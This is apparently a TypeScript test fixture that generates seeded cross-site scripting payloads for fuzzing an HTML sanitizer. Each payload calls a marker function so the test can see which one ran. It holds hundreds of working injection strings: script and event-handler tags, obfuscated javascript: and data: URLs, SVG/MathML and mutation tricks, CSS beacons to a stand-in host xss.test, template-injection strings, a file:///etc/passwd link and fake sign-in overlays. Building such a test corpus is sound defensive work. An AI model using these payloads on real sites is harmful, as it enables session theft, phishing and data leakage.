/**
 * Hostile texts. Each tries to call `__xss` with its own number: what runs says which it was. Families that are known by name, and what a
 * seed makes of them: other quotes, other cases, other encodings, other ways out of the place where a text stands.
 */
import { chanceOf, type Random } from '#tests/hostile/chance.ts'

export interface Payload {
  readonly number: number
  readonly family: string
  /** Markup, or what becomes markup somewhere. */
  readonly text: string
  /** Where an address is wanted. */
  readonly url: string
}

/** @returns so many different ones, the families' own first, then mutations */
export function payloadsOf(seed: number, count: number): Payload[] {
  const made: Payload[] = []
  const known = new Set<string>()
  const add = (family: string, template: string) => {
    if (known.has(template) || made.length >= count) return
    known.add(template)
    const number = made.length
    made.push({ number, family, text: filled(template, number), url: filled(URLS[number % URLS.length]!, number) })
  }
  const families = Object.entries(FAMILIES)
  // By turns, so that a small sample has something of each.
  for (let at = 0; families.some(([, all]) => at < all.length); at++)
    for (const [family, all] of families) if (at < all.length) add(family, all[at]!)
  for (let n = 0; made.length < count; n++) {
    const random = chanceOf(seed, n)
    const [family, all] = random.pick(families)
    add(`${family}, changed`, changed(random.pick(all), random))
  }
  return made
}

const filled = (template: string, number: number): string =>
  template.replaceAll('JS', `top.__xss(${number})`).replaceAll('NUMBER', String(number))

/** Nobody lives there; whoever asks for it is seen. */
const THERE = 'http://xss.test/NUMBER'

/** What loads or starts by itself, with the handler that then runs. */
const SELF_STARTERS: readonly [tag: string, handler: string][] = [
  ['img src=x', 'onerror'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"', 'onload'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video src=x', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['a href=x autofocus', 'onfocus'],
  ['div tabindex=1 autofocus', 'onfocus'],
  ['button popovertarget=x autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['marquee loop=1 width=0', 'onfinish'],
  ['div style="animation:x 1s"', 'onanimationstart'],
  ['div style="transition:color 1s"', 'ontransitionend'],
  ['div style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
  ['input type=image src=x', 'onerror'],
  ['p', 'onpointerrawupdate'],
  ['p', 'onmouseover'],
  ['form', 'onfocusin'],
]

/** Ways out of the place where a text may stand. */
const WAYS_OUT = [
  '"><',
  "'><",
  '`><',
  '" ',
  "' ",
  '</textarea><',
  '</title><',
  '</style><',
  '</script><',
  '--><',
  ']]><',
  '*/ ',
  '</noscript><',
  '</template><',
  '</select><',
  '\\"><',
]

const URLS = [
  'javascript:JS',
  'JaVaScRiPt:JS',
  ' javascript:JS',
  '\u0001javascript:JS',
  'java\tscript:JS',
  'java\nscript:JS',
  'java\r\nscript:JS',
  'java\0script:JS',
  'javascript\t:JS',
  'javascript:\u00A0JS',
  '\u00A0javascript:JS',
  '\uFEFFjavascript:JS',
  'javascript://%0aJS',
  'javascript://xss.test/%0d%0aJS',
  'javascript:/*"/*`/*\' /*</script>*/JS',
  '&#106;avascript:JS',
  '&#x6A;&#x61;vascript&colon;JS',
  'javascript&colon;JS',
  'java&Tab;script&colon;JS',
  'javascript&#58;JS',
  '%6A%61%76ascript:JS',
  'jav\u0430script:JS',
  'ｊavascript:JS',
  'javascript：JS',
  'data:text/html,<script>JS</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>',
  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>JS</script></html>',
  'vbscript:JS',
  'view-source:javascript:JS',
  'feed:javascript:JS',
  'blob:null/JS',
  'filesystem:http://xss.test/JS',
  'jar:http://xss.test!/JS',
  '//xss.test/"onmouseover="JS',
  'http://xss.test/" onmouseover="JS',
  "http://xss.test/' onfocus='JS' autofocus='",
  'http://xss.test/\u202E\u2066gnp.exe',
  'http://аррӏе.test/',
  'http://user:pass@xss.test\\@parley.test/',
  'https://xss.test/#javascript:JS',
  '\\\\xss.test\\share',
  'file:///etc/passwd',
  'intent://xss.test#Intent;scheme=javascript;end',
  'mailto:a@b.test?body=<script>JS</script>',
  'tel:1"><script>JS</script>',
] as const

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>JS</script>',
    '<ScRiPt>JS</sCrIpT>',
    '<script/x>JS</script/x>',
    '<script\n>JS</script\t>',
    `<script src=${THERE}></script>`,
    `<script src=//xss.test/NUMBER></script>`,
    '<script src="data:text/javascript,JS"></script>',
    '<script type=module>JS</script>',
    '<script type="importmap">{"imports":{"x":"data:text/javascript,JS"}}</script>',
    '<script>/*</script><script>*/JS</script>',
    '<<script>JS//<</script>',
    '<scr<script>ipt>JS</scr</script>ipt>',
    '<script>JS',
    '<script\0>JS</script>',
    '\u003Cscript\u003EJS\u003C/script\u003E',
    '＜script＞JS＜/script＞',
  ],
  'what starts itself': SELF_STARTERS.flatMap(([tag, handler]) => {
    const name = tag.split(' ')[0]!
    return [`<${tag} ${handler}="JS">`, `<${tag} ${handler}=JS></${name}>`, `<${tag}/${handler}='JS'//`]
  }),
  'out of an attribute': WAYS_OUT.flatMap((out) =>
    out.endsWith('<')
      ? [`${out}img src=x onerror=JS>`, `${out}svg onload=JS>`, `${out}script>JS</script>`]
      : [
          `${out}onmouseover=JS x=`,
          `${out}autofocus onfocus=JS x=`,
          `${out}style=animation-name:x onanimationstart=JS `,
        ],
  ),
  svg: [
    '<svg><script>JS</script></svg>',
    '<svg><script href="data:text/javascript,JS"/></svg>',
    '<svg><script xlink:href="data:text/javascript,JS"></script></svg>',
    '<svg><a xlink:href="javascript:JS"><text x=20 y=20>x</text></a></svg>',
    '<svg><animate onbegin=JS attributeName=x dur=1s>',
    '<svg><set onbegin=JS attributeName=x>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:JS /><a id=x><text>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:JS" /><text>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=JS /></svg>#x" /></svg>',
    `<svg><use href="${THERE}#x" /><image href="${THERE}" /></svg>`,
    '<svg><style><img src=x onerror=JS></style></svg>',
    '<svg><title><img src=x onerror=JS></title></svg>',
    '<svg><desc><img src=x onerror=JS></desc></svg>',
    '<svg><handler type="text/javascript" ev:event="load">JS</handler></svg>',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>',
    '<svg><![CDATA[><img src=x onerror=JS>]]></svg>',
  ],
  mathml: [
    '<math><mtext><script>JS</script></mtext></math>',
    '<math href="javascript:JS">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:JS">x</maction></math>',
    '<math><mi xlink:href="javascript:JS">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=JS></annotation-xml></math>',
    '<math><a xlink:href="javascript:JS">x',
  ],
  'mutated on the way': [
    '<noscript><p title="</noscript><img src=x onerror=JS>">',
    '<xmp><p title="</xmp><img src=x onerror=JS>">',
    '<textarea><p title="</textarea><img src=x onerror=JS>">',
    '<title><p title="</title><img src=x onerror=JS>">',
    '<iframe><p title="</iframe><img src=x onerror=JS>">',
    '<noembed><p title="</noembed><img src=x onerror=JS>">',
    '<noframes><p title="</noframes><img src=x onerror=JS>">',
    '<template><p title="</template><img src=x onerror=JS>">',
    '<style><p title="</style><img src=x onerror=JS>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
    '<math><mtext><table><mglyph><style><math><img src onerror=JS></style>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>',
    '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
    '<svg><style>&lt;img src=x onerror=JS&gt;</style></svg>',
    '<math></p><style><!--</style><img src/onerror=JS>--></style></math>',
    '<svg><p><style><g title="</style><img src onerror=JS>">',
    '<a><b><a><svg><desc><a><style><a title="</style><img src onerror=JS>">',
    '<table><td><form><svg><style><a></form><img src onerror=JS>',
    '<select><style></select><img src=x onerror=JS></style>',
    '<select><template><img src=x onerror=JS></template></select>',
    '<option><style></option></select><img src=x onerror=JS></style>',
    `${'<div>'.repeat(300)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=JS>">`,
    '<p id="`><img src=x onerror=JS>`">',
    '<listing>&lt;img src=x onerror=JS&gt;</listing>',
    '<plaintext><img src=x onerror=JS>',
    '<!--><img src=x onerror=JS>-->',
    '<!--!><img src=x onerror=JS>-->',
    '<!-- --!><img src=x onerror=JS>-->',
    '<![if !IE]><img src=x onerror=JS>',
    '<?php echo 1 ?><img src=x onerror=JS>',
    '<% <img src=x onerror=JS> %>',
    '<comment><img src="</comment><img src=x onerror=JS//">',
    '<image><style></image><svg onload=JS></style>',
    '&lt;img src=x onerror=JS&gt;',
    '&amp;lt;img src=x onerror=JS&amp;gt;',
    '&#60;img src=x onerror=JS&#62;',
    '%3Cimg%20src%3Dx%20onerror%3DJS%3E',
    '\\x3cimg src=x onerror=JS\\x3e',
    '\\u003cimg src=x onerror=JS\\u003e',
    '+ADw-script+AD4-JS+ADw-/script+AD4-',
  ],
  frames: [
    '<iframe src="javascript:JS"></iframe>',
    '<iframe srcdoc="<script>JS</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=JS&gt;"></iframe>',
    `<iframe src="${THERE}"></iframe>`,
    '<iframe src="data:text/html,<script>JS</script>"></iframe>',
    '<object data="javascript:JS"></object>',
    '<object data="data:text/html,<script>JS</script>"></object>',
    '<object type="text/x-scriptlet" data="data:text/html,<script>JS</script>"></object>',
    '<embed src="javascript:JS">',
    '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=JS>">',
    `<frameset><frame src="${THERE}"></frameset>`,
    `<portal src="${THERE}"></portal>`,
    `<fencedframe src="${THERE}"></fencedframe>`,
    `<base href="${THERE}/">`,
    `<meta http-equiv="refresh" content="0;url=${THERE}">`,
    '<meta http-equiv="refresh" content="0;url=javascript:JS">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    `<link rel="stylesheet" href="${THERE}">`,
    `<link rel="prefetch" href="${THERE}"><link rel="preconnect" href="${THERE}"><link rel="dns-prefetch" href="//xss.test">`,
    `<link rel="modulepreload" href="${THERE}">`,
    `<form action="${THERE}"><input name=q autofocus><button>Sign in again</button></form>`,
    '<form action="javascript:JS"><input type=submit></form>',
    '<button formaction="javascript:JS">Go on</button>',
    '<isindex action="javascript:JS" type=image>',
    '<dialog open style="position:fixed;inset:0">Sign in</dialog>',
    `<video poster="${THERE}" src="${THERE}" autoplay></video>`,
    `<img srcset="${THERE} 1x" src="${THERE}">`,
    `<picture><source srcset="${THERE}"><img></picture>`,
    `<input type="image" src="${THERE}">`,
    `<table background="${THERE}"><td background="${THERE}">x`,
    `<a href="x" ping="${THERE}">x</a>`,
    `<map name=m><area shape=rect coords=0,0,999,999 href="javascript:JS"></map><img usemap=#m src=x>`,
    `<template shadowrootmode="open"><img src=x onerror=JS></template>`,
  ],
  links: [
    ...URLS.map((url) => `<a href="${url}">Open</a>`),
    ...URLS.slice(0, 24).map((url) => `[Open](${url})`),
    '![x](x"onerror="JS)',
    '[x](javascript:JS "title")',
    '[x]: javascript:JS\n[x]',
    '<javascript:JS>',
    '[<img src=x onerror=JS>](http://xss.test/)',
    '[x](http://xss.test/"onmouseover="JS)',
    'http://xss.test/<img/src=x/onerror=JS>',
    'http://xss.test/?q="><svg/onload=JS>',
    'https://xss.test/\'"()&%<acx><script>JS</script>',
    'www.xss.test/"onfocus="JS',
  ],
  style: [
    `<style>@import "${THERE}";</style>`,
    `<style>@import'${THERE}';*{background:url(${THERE})}</style>`,
    `<style>@font-face{font-family:x;src:url(${THERE})}*{font-family:x}</style>`,
    `<style>input[value^="a"]{background:url(${THERE})}</style>`,
    '<style>body{background:\\75rl(http://xss.test/NUMBER)}</style>',
    '<style>@\\69mport url(http://xss.test/NUMBER);</style>',
    '<style>*{background:image-set("http://xss.test/NUMBER" 1x)}</style>',
    '<style>*{background:-webkit-image-set(url("http://xss.test/NUMBER") 1x)}</style>',
    '<style>*{cursor:url(http://xss.test/NUMBER),auto}</style>',
    '<style>*{background:u/**/rl(http://xss.test/NUMBER)}</style>',
    '<style>*{background:src("http://xss.test/NUMBER")}</style>',
    `<div style="background:url(${THERE})">x</div>`,
    '<div style="background:\\000075rl(http://xss.test/NUMBER)">x</div>',
    '<div style="width:expression(JS)">x</div>',
    '<div style="behavior:url(http://xss.test/NUMBER)">x</div>',
    '<div style="-moz-binding:url(http://xss.test/NUMBER#x)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Your session ended</div>',
    '<style>*{display:none!important}body:after{content:"Sign in"}</style>',
    '<style></style><img src=x onerror=JS>',
    '<style>x{}</style/><img src=x onerror=JS>',
    'x;background:url(http://xss.test/NUMBER)',
    '}*{background:url(http://xss.test/NUMBER)}',
  ],
  templates: [
    '{{constructor.constructor("JS")()}}',
    "{{$on.constructor('JS')()}}",
    '{{7*7}}',
    '${JS}',
    '${{JS}}',
    '#{JS}',
    '<%= JS %>',
    '{%raw%}JS{%endraw%}',
    '[[JS]]',
    '{{#with "s"}}{{JS}}{{/with}}',
    '<div v-html="\'<img src=x onerror=JS>\'"></div>',
    '<div ng-app ng-init="constructor.constructor(\'JS\')()"></div>',
    '<div x-data x-init="JS"></div>',
    '<div hx-on::load="JS" hx-get="x" hx-trigger="load"></div>',
    '$t(JS)',
    '{{name}} $t(inbox:x, {"a": "JS"})',
    '__proto__',
    'constructor',
    '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"JS"}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=JS>"}}',
  ],
  'what eyes are led by': [
    '\u202Egnp.<script>JS</script>',
    '\u2066\u202E<img src=x onerror=JS>\u2069',
    '<\u200Bscript>JS</\u200Bscript>',
    '<scr\u00ADipt>JS</scr\u00ADipt>',
    '\u200F\u200E\u061C<svg onload=JS>',
    'a\u0300'.repeat(200) + '<img src=x onerror=JS>',
    '\uD800<img src=x onerror=JS>'.replace('\uD800', '\uFFFD'),
    '\u{E0001}\u{E0041}<img src=x onerror=JS>',
    '<img\u2028src=x\u2029onerror=JS>',
    '<img\u3000src=x onerror=JS>',
    '‹img src=x onerror=JS›',
    'ſcript:<ſcript>JS</ſcript>',
    '<ımg src=x onerror=JS>',
    'K\u212A<scr\u0131pt>JS</script>',
    '<img src=x onerror\u0000=JS>'.replace('\u0000', ''),
  ],
  'names of files': [
    '"><img src=x onerror=JS>.png',
    '<svg onload=JS>.svg',
    'invoice.pdf\u202Efdp.html',
    '../../../<img src=x onerror=JS>.html',
    'a.html;name="b.png',
    'a"\r\nContent-Type: text/html\r\n\r\n<script>JS</script>',
    "x'onerror='JS.jpg",
    'javascript:JS.txt',
    'x.png%00.html',
    'CON.<script>JS</script>',
  ],
  'whole pages': [
    '<html><head><title></title></head><body onload=JS><script>JS</script></body></html>',
    '<!doctype html><body/onload=JS>',
    '</p></div></body></html><script>JS</script>',
    `<html manifest="${THERE}"><body onhashchange=JS>`,
    '<body onresize=JS onbeforeprint=JS onmessage=JS onerror=JS onunhandledrejection=JS>',
    '<head><base href="javascript:/"></head><body><a href="/. /,JS//#">x</a></body>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script>',
    '<!DOCTYPE x [<!ENTITY x "<script>JS</script>">]><x>&x;</x>',
    '<xml><![CDATA[<img src=x onerror=JS>]]></xml>',
    '<a id=__xss><a id=__xss name=x href=x>',
    '<form id=location><input name=href value="javascript:JS"></form>',
    '<img name=getElementById><img name=querySelector><form name=body>',
    '<input name=attributes><form><input name=nodeName><img src=x onerror=JS></form>',
  ],
  polyglots: [
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=JS )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=JS//>\\x3e',
    '\'">><marquee><img src=x onerror=JS></marquee>"></plaintext\\></|\\><plaintext/onmouseover=JS><script>JS</script>',
    '" onclick=JS//<button \' onclick=JS//> */ JS//',
    '\';JS//\';JS//";JS//";JS//--></SCRIPT>">\'><SCRIPT>JS</SCRIPT>',
    '"\'--></style></script></title></textarea><svg onload=JS>',
    '%22%3E%3Csvg%20onload%3DJS%3E"><svg onload=JS>',
    '\\"-JS}//',
    '</script><svg><script>JS//',
    '1;JS',
    "'-JS-'",
    '"+JS+"',
    '`${JS}`',
  ],
}

function changed(template: string, random: Random): string {
  let text = template
  for (let times = random.between(1, 2); times > 0; times--) text = random.pick(CHANGES)(text, random)
  return text
}

const CHANGES: readonly ((text: string, random: Random) => string)[] = [
  (text, random) => text.replaceAll(/<\/?[a-z]+|\bon[a-z]+(?==)/gi, (name) => anyCase(name, random)),
  (text, random) =>
    text.replaceAll(/ (?=[a-z]+=)/g, random.pick(['/', '\t', '\n', '\f', '/\t/', ' x="y" ', '\r\n', '//'])),
  (text, random) => text.replaceAll(/=(["']?)(?=JS)/g, `=${random.pick(['', '"', "'", ' ', '\n"', '&#9;'])}`),
  (text, random) =>
    text.replaceAll(
      'JS',
      random.pick(['JS;', 'eval`JS`', '(JS)', '&#116;op.__xss(NUMBER)', "top['__xss'](NUMBER)", 'void JS']),
    ),
  (text, random) => random.pick(WAYS_OUT).replace(/<$/, '') + text,
  (text, random) =>
    `${random.pick(['<b>', '<p title="', '<!--', '<svg>', '<math>', '<table>', '<style>', '<a href="', '<template>', '<noscript>'])}${text}`,
  (text, random) => text.replaceAll(/</g, random.pick(['<', '<\u200B', '<!', '</', '<x/><'])),
  (text, random) => text.replaceAll(/[<>"']/g, (sign) => (random.chance(0.4) ? `&#${sign.charCodeAt(0)};` : sign)),
  (text, random) => text + random.pick(['"', "'", '<', '<!--', '<script>', '\u202E', '</', '>', '\\']),
  (text) => text.replaceAll('>', ''),
  (text, random) =>
    text.replaceAll(/javascript:/gi, (name) =>
      random.pick([anyCase(name, random), `${name}//%0a`, `\t${name}`, name.replace('s', '&#115;')]),
    ),
]

const anyCase = (text: string, random: Random): string =>
  text.replaceAll(/[a-z]/gi, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase()))
